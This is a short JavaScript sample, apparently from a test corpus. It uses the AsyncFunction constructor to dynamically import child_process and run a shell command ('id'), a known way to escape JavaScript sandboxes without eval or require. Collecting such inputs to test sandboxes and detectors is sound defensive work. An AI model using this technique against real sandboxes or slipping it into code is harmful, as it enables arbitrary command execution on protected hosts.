// corpus: Object.getPrototypeOf chain from an async function to the AsyncFunction constructor
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
const fn = new AsyncFunction('return (await import("child_process")).execSync("id").toString()');
fn().then(console.log);
